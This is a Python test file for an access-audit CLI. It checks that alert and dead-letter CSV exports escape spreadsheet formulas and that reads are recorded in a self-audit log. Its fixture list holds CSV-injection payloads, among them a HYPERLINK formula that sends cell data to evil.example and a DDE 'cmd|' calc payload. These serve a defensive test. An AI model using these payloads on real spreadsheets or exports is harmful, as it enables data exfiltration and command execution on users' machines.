"""Issue 12 on the CLI's read commands: their CSV is formula-escaped (every writer goes through
core/csvcells.csv_cell) and every read of alerts and dead letters is in the self-audit with the OS user."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from access_audit.api.audit import os_user
from access_audit.cli import app
from access_audit.core.alerts import Alert, Severity
from access_audit.core.records import DeadLetter
from access_audit.store.sqlite import SqliteStore

#: what a spreadsheet would run as a formula (or hide a formula behind), and what it must show instead
MALICIOUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", " =1+1", "\uff1dHYPERLINK(\"http://evil.example\")"]
T0 = datetime(2026, 3, 26, 1, 0, tzinfo=UTC)


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    d = tmp_path / "data"
    s = SqliteStore(d / "events.db")
    s.write_alerts([Alert(id=f"a{i:03d}" + "0" * 28, rule_id="r", title=v, severity=Severity.high, risk_score=70,
                          dedup_key=f"k{i}", first_seen=T0 + timedelta(minutes=i), last_seen=T0 + timedelta(minutes=i),
                          created_at=T0, user=v, query=v) for i, v in enumerate(MALICIOUS)])
    s.write_dead_letters([DeadLetter(raw=v.encode(), reason=v, source="test", origin=f"f:{i}", log_type="syslog",
                                     stage="parse", received_at=T0 + timedelta(minutes=i))
                          for i, v in enumerate(MALICIOUS)])
    s.close()
    return d


def invoke(*args: str) -> str:
    r = CliRunner().invoke(app, list(args), catch_exceptions=False)
    assert r.exit_code == 0, r.output
    return r.stdout


def _self_audit(d: Path) -> list[dict]:
    s = SqliteStore(d / "events.db")
    try:
        return s.self_audit(limit=100)[::-1]
    finally:
        s.close()


@pytest.mark.parametrize("args,column", [(("alerts", "list"), "title"), (("alerts", "list"), "query"),
                                         (("dead-letters", "list"), "raw"), (("dead-letters", "list"), "reason")])
def test_cli_csv_cells_are_formula_escaped(data_dir: Path, args: tuple[str, ...], column: str):
    text = invoke(*args, "-f", "csv", "--limit", "100", "--data-dir", str(data_dir))
    cells = sorted(r[column] for r in csv.DictReader(io.StringIO(text)))
    assert cells == sorted("'" + v for v in MALICIOUS), cells
    # JSON is data, not a spreadsheet: the values stay as they are
    rows = [json.loads(x) for x in invoke(*args, "-f", "json", "--limit", "100", "--data-dir", str(data_dir))
            .splitlines()]
    assert sorted(r[column] for r in rows) == sorted(MALICIOUS)


def test_cli_reads_of_alerts_and_dead_letters_are_in_the_self_audit(data_dir: Path):
    d = str(data_dir)
    invoke("alerts", "list", "--status", "open", "--data-dir", d)
    invoke("alerts", "show", "a001", "--data-dir", d)
    invoke("dead-letters", "list", "-f", "csv", "--data-dir", d)
    dl = json.loads(invoke("dead-letters", "list", "-f", "json", "--limit", "1", "--data-dir", d))
    invoke("dead-letters", "show", dl["id"][:8], "--data-dir", d)
    recs = _self_audit(data_dir)
    assert [(r["interface"], r["action"], r["os_user"], r["actor"]) for r in recs] == \
        [("cli", a, os_user(), os_user()) for a in ("alert_list", "alert_read", "dead_letter_list", "dead_letter_list",
                                                   "dead_letter_read")]
    assert recs[0]["hits"] == len(MALICIOUS) and "status=open" in recs[0]["query"]
    assert recs[1]["query"] == "a001" + "0" * 28  # the whole id, not the prefix typed
    assert recs[2]["hits"] == len(MALICIOUS) and "(csv)" in recs[2]["query"]
    assert recs[4]["query"] == dl["id"]
